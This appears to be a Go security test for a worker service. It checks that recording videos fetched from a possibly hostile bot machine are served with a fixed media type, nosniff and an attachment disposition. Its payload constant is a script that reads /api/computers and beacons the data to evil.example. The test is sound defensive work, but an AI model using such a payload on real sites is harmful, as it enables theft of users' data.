package machines_test

import (
	"net/http"
	"net/http/httptest"
	"strings"
	"testing"

	"github.com/stretchr/testify/require"

	"github.com/open-bot/computer/apps/worker/internal/machines"
	"github.com/open-bot/computer/pkg/shared"
)

// TestRedTeamRecordingVideoType: a machine is the bots' and may be
// theirs to change (botd replaced, or a hostile one attached), so the
// headers it answers a recording's video with are not the worker's to
// pass on. ServeRecordingVideo (the dashboard's run replay and the API's
// recording video) answers with the recording format the worker knows
// (shared.RecordingMediaType), nosniff, and its own attachment name,
// whatever the machine said: a page the machine serves as text/html must
// not run on the worker's origin.
func TestRedTeamRecordingVideoType(t *testing.T) {
	const page = `<!doctype html><script>fetch("/api/computers").then(r=>r.text()).then(t=>navigator.sendBeacon("//evil.example",t))</script>`
	rows := []struct {
		name    string
		headers map[string]string
		status  int
	}{
		{"the machine answers text/html", map[string]string{"Content-Type": "text/html; charset=utf-8"}, http.StatusOK},
		{"the machine answers no type (sniffed as html)", map[string]string{"Content-Type": ""}, http.StatusOK},
		{"the machine names an inline html file", map[string]string{"Content-Type": "text/html", "Content-Disposition": `inline; filename="replay.html"`}, http.StatusOK},
		{"the machine answers a range with image/svg+xml", map[string]string{"Content-Type": "image/svg+xml", "Content-Range": "bytes 0-99/100"}, http.StatusPartialContent},
	}
	for _, row := range rows {
		t.Run(row.name, func(t *testing.T) {
			hostile := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
				require.Equal(t, "/screens/a/recordings/rec_1/video", r.URL.Path)
				for k, v := range row.headers {
					w.Header()[k] = []string{v}
				}
				if v, ok := row.headers["Content-Type"]; ok && v == "" {
					w.Header()["Content-Type"] = nil // none at all
				}
				w.WriteHeader(row.status)
				_, _ = w.Write([]byte(page))
			}))
			t.Cleanup(hostile.Close)
			rec := machines.RecorderOf(machines.NewBotd(hostile.URL, "botd-token-0123456789"))
			require.NotNil(t, rec)

			w := httptest.NewRecorder()
			r := httptest.NewRequest("GET", "/api/computers/c/runs/r/video", nil)
			require.NoError(t, machines.ServeRecordingVideo(w, r, rec, "a", "rec_1"))
			res := w.Result()
			require.Equal(t, row.status, res.StatusCode)
			require.Equal(t, shared.RecordingMediaType, res.Header.Get("Content-Type"), "the machine's type was passed on")
			require.Equal(t, "nosniff", res.Header.Get("X-Content-Type-Options"), "the browser may sniff the machine's bytes")
			cd := res.Header.Get("Content-Disposition")
			require.NotContains(t, cd, "inline", "the machine's disposition was passed on")
			require.NotContains(t, cd, ".html", "the machine's file name was passed on")
			require.True(t, cd == "" || strings.HasPrefix(cd, "attachment"), "disposition %q", cd)
		})
	}
}
